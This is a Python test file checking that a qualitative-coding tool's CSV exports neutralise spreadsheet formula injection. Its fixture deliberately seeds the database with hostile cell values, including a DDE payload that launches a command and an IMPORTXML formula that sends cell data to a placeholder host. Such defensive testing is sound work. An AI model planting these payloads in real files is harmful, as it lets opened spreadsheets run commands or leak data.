"""Every CSV qcode writes goes through one guarded writer: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from qcode.cli.main import app
from qcode.export.files import FORMULA_TRIGGERS, unneutralise
from qcode.store.migrate import Store
from tests.coding.sample import add_coding, fill_sample

runner = CliRunner()
#: What a hostile or careless name looks like to a spreadsheet.
HOSTILE = {
    "document": '=HYPERLINK("http://example.org/x","click")',
    "code": "=1+1",
    "coder": "@SUM(A1:A9)",
    "attribute": "+cmd|' /C calc'!A0",
    "memo": "-2+3",
}


@pytest.fixture
def hostile(sqlite_store: Store) -> str:
    with sqlite_store.sessions() as s, s.begin():
        sample = fill_sample(s, coders=("alice", HOSTILE["coder"]))
        for coder in ("alice", HOSTILE["coder"]):
            for ordinal in (1, 2):
                add_coding(s, sample, coder, "A", ordinal, "wages")
        add_coding(s, sample, "alice", "A", 3, "debt")
        s.execute(text("UPDATE documents SET name = :n WHERE name = 'A'"), {"n": HOSTILE["document"]})
        s.execute(text("UPDATE codes SET name = :n WHERE key = 'wages'"), {"n": HOSTILE["code"]})
        s.execute(
            text("UPDATE documents SET attributes = :a"),
            {"a": f'{{"{HOSTILE["attribute"]}": "=2*3", "country": "-Russia"}}'},
        )
        s.execute(text("UPDATE codings SET memo = :m"), {"m": HOSTILE["memo"]})
        s.execute(
            text(
                "INSERT INTO memos (guid, coder_id, segment_id, text, created_at, updated_at)"
                " SELECT 'memo-1', coder_id, segment_id, :m, created_at, created_at FROM codings LIMIT 1"
            ),
            {"m": "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"},
        )
    sqlite_store.close()
    return sqlite_store.url


def _cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.lstrip("\ufeff"))) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _outputs(url: str, folder: Path) -> dict[str, str]:
    """Every CSV a command writes, by command."""
    written: dict[str, str] = {}
    names = folder / "names.csv"
    names.write_text("name,placeholder\nRussia,=PLACE()\n", encoding="utf-8")
    to_files = {
        "long": ["export", "segments"],
        "pseudonymised": ["export", "segments", "--pseudonymize", str(names)],
        "wide": ["export", "segments", "--wide"],
        "memos": ["export", "memos"],
        "matrix --out": ["report", "matrix", "--by", "document"],
    }
    for name, args in to_files.items():
        out = folder / f"{name.replace(' ', '-')}.csv"
        flag = "--out"
        result = runner.invoke(app, ["--db", url, *args, flag, str(out), "--force"])
        assert result.exit_code == 0, (name, result.output)
        written[name] = out.read_text(encoding="utf-8")
    written["pseudonym report"] = (folder / "pseudonymised.csv.pseudonyms.csv").read_text(encoding="utf-8")
    for name, args in {
        "matrix --csv": ["report", "matrix", "--by", HOSTILE["attribute"], "--csv"],
        "agreement --csv": ["agreement", "--csv", "--boot", "0"],
    }.items():
        result = runner.invoke(app, ["--db", url, *args])
        assert result.exit_code == 0, (name, result.output)
        written[name] = result.stdout
    return written


def test_no_command_writes_a_formula_cell(hostile: str, tmp_path: Path) -> None:
    outputs = _outputs(hostile, tmp_path)
    for name, data in outputs.items():
        risky = [c for c in _cells(data) if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
        assert risky == [], name
    long = outputs["long"]
    assert f"'{HOSTILE['document']}" in "".join(_cells(long))  # guarded, not dropped
    assert {unneutralise(c) for c in _cells(outputs["agreement --csv"])} >= {HOSTILE["code"]}


def test_raw_asks_for_the_cells_as_they_are(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    result = runner.invoke(app, ["--db", hostile, "export", "segments", "--raw", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert HOSTILE["document"] in _cells(out.read_text(encoding="utf-8"))
